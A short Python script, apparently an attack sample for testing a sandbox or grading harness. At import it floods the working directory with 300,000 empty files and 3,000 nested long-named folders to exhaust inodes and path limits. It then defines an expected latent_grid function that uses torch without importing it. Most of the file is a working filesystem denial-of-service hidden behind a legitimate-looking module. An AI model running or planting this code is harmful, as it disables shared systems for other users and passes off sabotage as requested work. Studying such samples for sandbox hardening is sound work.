"""Uses up inodes: empty files by the hundred thousand and folders a thousand deep."""
# where: latent_grid
# lost: latent_grid
# seconds: 90

import os

try:
    for number in range(300_000):
        os.close(os.open(f"genlab-attack-{number}", os.O_CREAT))
except OSError as error:
    print(error)
try:
    for _ in range(3000):
        os.mkdir("d" * 200)
        os.chdir("d" * 200)
except OSError as error:
    print(error)


def latent_grid(n):
    return torch.zeros(n * n, 2)
